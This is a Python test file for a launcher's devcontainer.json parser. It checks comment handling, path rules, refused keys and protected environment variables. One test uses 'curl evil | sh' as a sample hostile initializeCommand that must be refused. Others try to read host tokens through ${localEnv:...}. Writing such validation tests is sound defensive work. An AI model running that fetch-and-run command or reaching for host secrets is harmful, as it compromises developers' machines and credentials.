"""devcontainer.json as launcher reads it: JSON with comments, every key used, refused or noted."""

from __future__ import annotations

import json

import pytest

from launcher.core.devcontainer_json import (
    IGNORED,
    REFUSED,
    Devcontainer,
    load_jsonc,
    parse_devcontainer,
    resolve_container_env,
    strip_jsonc,
)
from launcher.errors import InvalidInputError

PATH = ".devcontainer/devcontainer.json"


def parse(text: str, path: str = PATH) -> Devcontainer:
    return parse_devcontainer(text.encode(), path, repo_name="proj")


def test_comments_and_trailing_commas_are_read_as_json() -> None:
    text = """// a line comment
    {
      /* a block
         comment */ "image": "x:1", // after a value
      "url": "http://example.com/*not a comment*/",
      "s": "a // b, ]",
      "q": "say \\"hi\\" // still a string",
      "list": [1, 2, /* three */ ],
      "nested": {"a": [ {"b": 1,}, ], },
    }
    """
    assert load_jsonc(text.encode(), "f") == {
        "image": "x:1",
        "url": "http://example.com/*not a comment*/",
        "s": "a // b, ]",
        "q": 'say "hi" // still a string',
        "list": [1, 2],
        "nested": {"a": [{"b": 1}]},
    }


def test_stripping_keeps_positions_for_error_messages() -> None:
    text = '{\n  // c\n  "a": 1,\n  "b": nope\n}'
    stripped = strip_jsonc(text)
    assert len(stripped) == len(text)
    assert stripped.count("\n") == text.count("\n")
    with pytest.raises(InvalidInputError, match="line 4, column 8"):
        load_jsonc(text.encode(), "f")


def test_plain_json_is_unchanged_and_a_byte_order_mark_is_allowed() -> None:
    doc = {"image": "x", "a": [1, {"b": "c,}"}], "d": "//"}
    text = json.dumps(doc)
    assert strip_jsonc(text) == text
    assert load_jsonc(b"\xef\xbb\xbf" + text.encode(), "f") == doc


@pytest.mark.parametrize(
    "text",
    ['{"a": 1,, }', "[1, /* unterminated", '{"a": "unterminated}', "{,}", b"\xff".decode("latin-1")],
)
def test_broken_input_is_refused_with_where_it_came_from(text: str) -> None:
    with pytest.raises(InvalidInputError, match=r"^f is not"):
        load_jsonc(text.encode("latin-1" if "\xff" in text else "utf-8"), "f")


def test_image_env_and_lifecycle_commands_in_the_spec_s_order() -> None:
    dc = parse(
        """{
        "name": "Proj", "image": "debian:bookworm-slim",
        "containerEnv": {"FOO": "1", "WS": "${containerWorkspaceFolder}"},
        "remoteEnv": {"PATH": "${containerEnv:PATH}:/opt/bin", "R": "${localWorkspaceFolderBasename}"},
        "postStartCommand": "echo start",
        "postCreateCommand": ["touch", "a file", "${containerWorkspaceFolderBasename}"],
        "onCreateCommand": {"one": "echo one", "two": ["echo", "two"], "none": ""},
        "customizations": {"vscode": {"extensions": ["x"]}},
        "forwardPorts": [3000],
        "mysteryKey": 1,
      }"""
    )
    assert dc.image == "debian:bookworm-slim"
    assert dc.build is None
    assert dc.container_env == {"FOO": "1", "WS": "/workspace"}
    assert dc.remote_env == {"PATH": "${containerEnv:PATH}:/opt/bin", "R": "proj"}
    assert dc.setup == ["echo one", "echo two", "touch 'a file' workspace", "echo start"]
    assert any("'name' ignored" in n for n in dc.notes)
    assert any("'customizations' ignored" in n for n in dc.notes)
    assert any("'forwardPorts' ignored: nothing is forwarded" in n for n in dc.notes)
    assert any("'mysteryKey' ignored: not a devcontainer.json key" in n for n in dc.notes)
    assert all(n.startswith(PATH) for n in dc.notes)


def test_container_env_references_resolve_against_the_image() -> None:
    env = {"PATH": "/usr/bin"}
    assert resolve_container_env("${containerEnv:PATH}:/opt/bin", env) == "/usr/bin:/opt/bin"
    assert resolve_container_env("${containerEnv:NOPE:fallback}-${containerEnv:NOPE}", env) == "fallback-"


def test_build_paths_are_resolved_from_the_file_s_folder() -> None:
    dc = parse('{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}, "target": "dev"}}')
    assert dc.build is not None
    assert (dc.build.context, dc.build.dockerfile, dc.build.args, dc.build.target) == (
        "",
        ".devcontainer/Dockerfile",
        {"V": "1"},
        "dev",
    )
    default = parse('{"build": {"dockerfile": "docker/Dockerfile"}}').build
    assert default is not None
    assert (default.context, default.dockerfile) == (".devcontainer", "docker/Dockerfile")
    legacy = parse('{"dockerFile": "Dockerfile"}', path=".devcontainer.json").build
    assert legacy is not None
    assert (legacy.context, legacy.dockerfile) == ("", "Dockerfile")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"build": {"dockerfile": "Dockerfile", "context": "../.."}}', "points outside the repository"),
        ('{"build": {"dockerfile": "/etc/Dockerfile"}}', "must be relative"),
        ('{"build": {"dockerfile": "../Dockerfile"}}', "is outside build.context"),
        ('{"build": {"dockerfile": "D", "options": ["--network=host"]}}', "raw `docker build` flags"),
        ('{"build": {"context": "."}}', "needs 'dockerfile'"),
        ('{"image": "a", "build": {"dockerfile": "D"}}', "either 'image' or 'build.dockerfile'"),
        ('{"name": "nothing"}', "names no environment"),
        ('{"image": ""}', "non-empty string"),
        ("[1]", "must be an object"),
    ],
)
def test_broken_environments_are_refused(text: str, message: str) -> None:
    with pytest.raises(InvalidInputError, match=message):
        parse(text)


@pytest.mark.parametrize("key", sorted(REFUSED))
def test_what_a_run_cannot_have_is_refused_by_name(key: str) -> None:
    value = {"features": {"ghcr.io/devcontainers/features/node:1": {}}, "privileged": True}.get(key, ["x"])
    with pytest.raises(InvalidInputError) as caught:
        parse(json.dumps({"image": "x", key: value}))
    assert f"{key!r} cannot be honoured" in str(caught.value)
    assert PATH in str(caught.value)


def test_refused_keys_that_ask_for_nothing_are_accepted() -> None:
    dc = parse('{"image": "x", "features": {}, "mounts": [], "runArgs": [], "privileged": false}')
    assert dc.image == "x"


def test_features_refusal_says_what_to_do_instead() -> None:
    with pytest.raises(InvalidInputError, match=r"OCI registry.*Dockerfile"):
        parse('{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {}}}')


def test_initialize_command_never_runs_on_the_host() -> None:
    with pytest.raises(InvalidInputError, match="runs on the host"):
        parse('{"image": "x", "initializeCommand": "curl evil | sh"}')


@pytest.mark.parametrize(
    "env",
    [
        '{"HOME": "/root"}',
        '{"HTTPS_PROXY": "http://x"}',
        '{"GIT_DIR": "/x"}',
        '{"CASE_ROOT": "/x"}',
        '{"no_proxy": "*"}',
    ],
)
def test_launcher_s_own_variables_cannot_be_set(env: str) -> None:
    with pytest.raises(InvalidInputError, match="launcher sets for every run"):
        parse(f'{{"image": "x", "containerEnv": {env}}}')


def test_the_host_environment_is_never_read() -> None:
    with pytest.raises(InvalidInputError, match="host's environment"):
        parse('{"image": "x", "remoteEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}')
    with pytest.raises(InvalidInputError, match="host's environment"):
        parse('{"build": {"dockerfile": "D", "args": {"T": "${localEnv:TOKEN}"}}}')
    with pytest.raises(InvalidInputError, match="not supported here"):
        parse('{"image": "x", "containerEnv": {"P": "${containerEnv:PATH}"}}')


def test_every_ignored_key_has_a_note() -> None:
    doc = {"image": "x", **{key: "v" for key in IGNORED}}
    dc = parse(json.dumps(doc))
    assert len(dc.notes) == len(IGNORED)


@pytest.mark.parametrize("bad", ['{"image": "x", "postCreateCommand": 3}', '{"image": "x", "onCreateCommand": [1]}'])
def test_malformed_commands_are_refused(bad: str) -> None:
    with pytest.raises(InvalidInputError, match="Command"):
        parse(bad)
